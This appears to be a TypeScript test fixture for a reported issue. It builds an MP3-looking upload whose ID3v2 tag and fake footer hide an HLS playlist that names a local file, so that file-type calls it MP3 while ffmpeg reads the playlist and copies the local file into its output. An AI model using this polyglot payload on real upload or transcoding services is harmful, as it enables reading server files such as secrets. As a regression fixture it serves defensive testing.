/** ID3v2 sizes are "syncsafe": 7 bits per byte. */
const syncsafe = (n: number) =>
  Buffer.from([(n >> 21) & 0x7f, (n >> 14) & 0x7f, (n >> 7) & 0x7f, n & 0x7f]);

/**
 * The upload of issue 9: an ID3v2 tag that says a footer follows it, where the
 * footer's ten bytes begin with an MP3 frame header, then an HLS playlist
 * naming a local file. file-type skips the tag without the footer, finds the
 * frame header and says MP3; ffmpeg, left to guess, skips the footer too,
 * reads the playlist and copies `localFile` into its output.
 */
export function hlsHiddenInMp3(localFile: string): Buffer {
  const tagBody = Buffer.alloc(16);
  const header = Buffer.concat([
    Buffer.from('ID3'),
    Buffer.from([4, 0, 0x10]), // v2.4, flags: footer present
    syncsafe(tagBody.length),
  ]);
  const fakeFooter = Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0x64]), Buffer.alloc(6)]);
  const playlist = Buffer.from(
    [
      '#EXTM3U',
      '#EXT-X-TARGETDURATION:10',
      '#EXTINF:10,',
      `file://${localFile}`,
      '#EXT-X-ENDLIST',
      '',
    ].join('\n'),
  );
  return Buffer.concat([header, tagBody, fakeFooter, playlist]);
}
